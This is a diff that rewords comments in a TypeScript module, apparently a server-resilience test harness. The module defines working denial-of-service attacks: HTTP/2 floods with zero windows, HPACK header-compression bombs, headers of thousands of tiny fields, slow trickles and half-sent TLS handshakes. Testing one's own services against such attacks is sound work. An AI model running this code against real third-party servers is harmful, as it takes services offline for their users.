@@ -11,7 +11,7 @@ import {
   type Victim,
 } from './open-connections.ts';
 
-/** What somebody without a credential does, until the process ends. */
+/** An attack: what a client without a credential does, until the process ends. */
 export type Attack = (victim: Victim) => Promise<void> | void;
 
 const whole = flags.endHeaders | flags.endStream;
@@ -19,25 +19,25 @@ const times = <Result>(count: number, make: (at: number) => Result) =>
   Array.from({ length: count }, (_, at) => make(at));
 const madeUp = (at: number) => `Bearer made-up-${at}-${process.hrtime.bigint()}`;
 
-/** Requests on one connection over HTTP/2, as one write. */
+/** Many requests on one HTTP/2 connection, as one write. */
 function requests(count: number, more: (at: number) => readonly (readonly [string, string])[], from = 0): Buffer {
   return Buffer.concat(
     times(count, (at) => frame(frameTypes.headers, whole, 2 * (from + at) + 1, http2.head(more(at)))),
   );
 }
 
-/** Says something on all of them, over and over, as fast as they take it. */
+/** Sends the bytes on all connections, again and again, as fast as the server reads them. */
 async function flood(connections: readonly Hostile[], next: () => Buffer | string): Promise<never> {
   for (;;) {
     let taken = 0;
     for (const connection of connections) if (connection.write(next())) taken++;
-    // The attacker's own use of the machine is no part of the attack.
+    // A pause keeps the attacker's own use of the CPU out of the measurement.
     if (taken === 0) await new Promise((resolve) => setTimeout(resolve, 5));
     else await nextTurn();
   }
 }
 
-/** Says a little on all of them, now and then. */
+/** Sends a few bytes on all connections from time to time. */
 async function trickle(connections: readonly Hostile[], next: (at: number) => string, everyMs: number): Promise<never> {
   for (let at = 0; ; at++) {
     for (const connection of connections) connection.write(next(at));
@@ -55,7 +55,7 @@ function unread(victim: Victim, connections: number, streams: number, path: stri
   );
 }
 
-/** Sends so many requests at once on each connection, and as many again when they are answered. */
+/** Sends this many requests at once on each connection, and the next batch when all are answered. */
 function askAgain(
   victim: Victim,
   connections: number,
@@ -79,7 +79,7 @@ const floodFrames = (victim: Victim, connections: number, block: Buffer) =>
     times(connections, () => openHttp2(victim, [http2.window(65_535)], true)),
     () => block,
   );
-/** The head of a first request that stays open, for frames about a stream. */
+/** The head of a first request that stays open. Frames can refer to its stream. */
 const openStream = frame(
   frameTypes.headers,
   flags.endHeaders,
@@ -90,10 +90,10 @@ const openStream = frame(
   ]),
 );
 const head1 = (line: string, more = '') => `${line} HTTP/1.1\r\nHost: a\r\n${more}`;
-/** The first bytes of a ClientHello that is never finished. RFC 8446, 5.1. */
+/** The first bytes of a ClientHello that is never finished. RFC 8446, section 5.1. */
 const halfHello = Buffer.from([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]);
 
-/** Every attack by what it does. */
+/** Every attack by its name. */
 export const attacks: Readonly<Record<string, Attack>> = {
   'HTTP/2: 28 connections with long heads and a bad path, window 0': (victim) => unread(victim, 28, 250, '/%zz', true),
   'HTTP/2: 20 connections with 250 made-up tokens each, window 0': (victim) => unread(victim, 20, 250, '/version'),
@@ -180,7 +180,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
       ['authorization', madeUp(at)],
     ]),
   'HTTP/2: heads with 5,000 one-byte fields': (victim) => {
-    // Each is indexed at 62, once the first has been remembered. RFC 7541, 6.1 and 6.2.1.
+    // Each field is indexed at 62 after the first one has been added to the dynamic table. RFC 7541, 6.1 and 6.2.1.
     const fields = Buffer.concat([Buffer.from([0x40, 1, 0x78, 1, 0x61]), Buffer.alloc(5_000, 0xbe)]);
     const head = Buffer.concat([http2.head([['authorization', madeUp(0)]]), fields]);
     let stream = 1;
@@ -193,7 +193,7 @@ export const attacks: Readonly<Record<string, Attack>> = {
     );
   },
   'HTTP/2: one indexed field of 4 KB, repeated 15,000 times a head': (victim) => {
-    // Remembered with incremental indexing (RFC 7541, 6.2.1), then indexed at 62.
+    // Added with incremental indexing (RFC 7541, 6.2.1), then indexed at 62.
     const name = Buffer.from([0x40, 1, 0x78]);
     const value = Buffer.concat([Buffer.from([0x7f, 0x81, 0x1e]), Buffer.alloc(0x7f + 0x81 - 0x80 + 0x1e * 128, 0x61)]);
     const bomb = Buffer.concat([http2.head([]), name, value, Buffer.alloc(12_000, 0xbe)]);
